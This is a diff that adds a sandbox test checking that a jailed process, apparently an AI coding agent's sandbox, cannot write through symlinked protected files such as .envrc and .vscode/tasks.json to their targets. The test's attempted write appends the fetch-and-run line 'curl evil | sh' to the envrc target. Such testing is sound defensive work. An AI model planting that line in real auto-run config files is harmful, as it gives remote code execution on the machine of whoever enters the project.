@@ -372,6 +372,26 @@ protected_deep() {
 	    "$P/.gemini" "$P/.vscode" "$P/opencode.json" "$P/.crush.json"
 }
 
+# A protected file that is a link at the start (.envrc -> scripts/envrc,
+# .vscode/tasks.json -> ../config/tasks.json): its target in the project
+# is read-only in the jail as the file would be; a target outside the
+# project is not the jail's to write anyway.
+protected_link_target() {
+	mkdir -p "$P/scripts" "$P/config" "$P/.vscode"
+	echo 'export A=1' >"$P/scripts/envrc"
+	echo '{}' >"$P/config/tasks.json"
+	ln -s scripts/envrc "$P/.envrc"
+	ln -s ../config/tasks.json "$P/.vscode/tasks.json"
+	jrun -- sh -c "echo 'curl evil | sh' >>scripts/envrc;
+	    echo '{\"tasks\":[]}' >config/tasks.json; echo tried"
+	case $OUT in *tried*) ok ;; *) bad "protected_link_target: the writes did not run: $OUT" ;; esac
+	[ "$(cat "$P/scripts/envrc")" = 'export A=1' ] && ok ||
+	    bad "protected_link_target: the jail wrote the target of the protected link .envrc: $(cat "$P/scripts/envrc")"
+	[ "$(cat "$P/config/tasks.json")" = '{}' ] && ok ||
+	    bad "protected_link_target: the jail wrote the target of the protected link .vscode/tasks.json"
+	rm -rf "$P/scripts" "$P/config" "$P/.vscode" "$P/.envrc"
+}
+
 # A link made in the session where a protected file or a dir on its way
 # is (the reviewer's repro): every tool reads what the session put behind
 # it. Flagged with its target, never followed; other links are not.
@@ -1259,6 +1279,7 @@ checks() {
 	protected
 	protected_deep
 	protected_links
+	protected_link_target
 	rerere
 	untr
 	fsmn
